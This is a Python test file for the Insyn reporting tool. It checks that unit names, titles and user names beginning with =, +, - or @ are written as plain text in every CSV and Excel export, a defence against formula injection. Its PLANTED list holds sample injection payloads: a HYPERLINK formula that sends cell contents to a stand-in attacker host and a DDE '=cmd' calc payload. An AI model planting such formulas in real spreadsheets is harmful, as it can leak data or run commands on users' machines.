"""Formulas planted in data never run in a spreadsheet (issue 18, the attack as a user would make
it): a unit name, a session title or a typed user name that begins with =, +, - or @ is text in
every CSV and workbook Insyn writes."""

from __future__ import annotations

import csv
import io

import openpyxl
import pandas as pd
import pytest

from insyn.disclosure.rules import DisclosureRules
from insyn.indicators.engine import RESULT_COLUMNS
from insyn.ingest.problems import write_problems_workbook
from insyn.publish import publish
from insyn.publish.publication import prepare
from insyn.spreadsheet import neutralised, neutralised_frame
from insyn.web.tables import Table, csv_bytes, xlsx_bytes
from insyn.workforce.export import write_workload_workbook

PLANTED = ['=HYPERLINK("http://angripare.example/?"&A1,"Klicka här")', "+1+1", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "http://angripare.example/"]


def _cells(path) -> list[openpyxl.cell.cell.Cell]:
    book = openpyxl.load_workbook(path)
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _assert_text_only(path, planted=PLANTED) -> None:
    cells = _cells(path)
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a formula cell"
    assert not [c.coordinate for c in cells if c.hyperlink is not None], "a link"
    texts = {c.value for c in cells if c.data_type == "s"}
    assert set(planted) <= texts  # written as they are, as text


def test_the_report_workbook_writes_planted_unit_names_as_text(tmp_path):
    rows = []
    for i, unit in enumerate(PLANTED):
        row = dict.fromkeys(RESULT_COLUMNS)
        row.update(indicator="anmalningar_per_kalla", municipality="0884", period="2024", period_type="year",
                   unit=None, category="polis", numerator=10 + i, denominator=40, value=25.0, complete=True)
        unit_row = {**row, "unit": unit, "category": None, "indicator": "forhandsbedomning_inom_14_dagar",
                    "numerator": 20, "denominator": 25, "value": 80.0}
        rows.append(unit_row)
    total = {**rows[0], "unit": None, "numerator": 20 * len(PLANTED), "denominator": 25 * len(PLANTED)}
    paths = publish(prepare(pd.DataFrame([*rows, total]), DisclosureRules()), tmp_path)
    _assert_text_only(paths["excel"])


def test_web_downloads_neutralise_text_and_keep_numbers():
    table = Table("t", "Bokningar", ["Enhet", "Förändring", "Titel"],
                  [[name, -3.0, "Kurs"] for name in PLANTED])
    rows = list(csv.reader(io.StringIO(csv_bytes(table).decode("utf-8-sig")), delimiter=";"))
    assert [r[0] for r in rows[1:]] == ["'" + p if p[0] in "=+-@\t" else p for p in PLANTED]
    assert {r[1] for r in rows[1:]} == {"-3,0"}  # a number stays a number
    book = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(table, "Insyn")))
    assert not [c for row in book.active.iter_rows() for c in row if c.data_type == "f" or c.hyperlink]


@pytest.mark.parametrize("write", ["workload", "problems"])
def test_manager_and_import_workbooks_write_text_as_text(write, tmp_path):
    frame = pd.DataFrame({"unit": PLANTED, "load_ratio": [0.9] * len(PLANTED)})
    path = tmp_path / "ut.xlsx"
    if write == "workload":
        write_workload_workbook({"Enheter": frame}, {"unit": "Enhet"}, path)
    else:
        write_problems_workbook({"Karantän": frame}, path)
    _assert_text_only(path)


def test_the_owasp_rule_for_csv_cells():
    assert [neutralised(t) for t in ("=1", "+1", "-1", "@a", "\tx", "\rx", "a=1", "", "Öckerö")] == [
        "'=1", "'+1", "'-1", "'@a", "'\tx", "'\rx", "a=1", "", "Öckerö"]
    frame = neutralised_frame(pd.DataFrame({"unit": ["=cmd|'/c calc'!A1", None], "n": [-1, 2]}))
    assert frame.unit.tolist()[0] == "'=cmd|'/c calc'!A1" and frame.n.tolist() == [-1, 2]


def test_the_analysts_csv_of_every_result_neutralises_text(tmp_path):
    from helpers import settings_with_results
    from typer.testing import CliRunner

    from insyn.cli import app

    row = dict.fromkeys(RESULT_COLUMNS)
    row.update(indicator="forhandsbedomning_inom_14_dagar", municipality="0884", period="2024", period_type="year",
               unit=PLANTED[0], numerator=20, denominator=25, value=80.0, complete=True)
    data = settings_with_results(tmp_path / "data", pd.DataFrame([row])).data_dir
    out = tmp_path / "alla.csv"
    result = CliRunner().invoke(app, ["--data-dir", str(data), "indicators", "--csv", str(out)])
    assert result.exit_code == 0, result.output
    assert pd.read_csv(out).unit.tolist() == ["'" + PLANTED[0]]
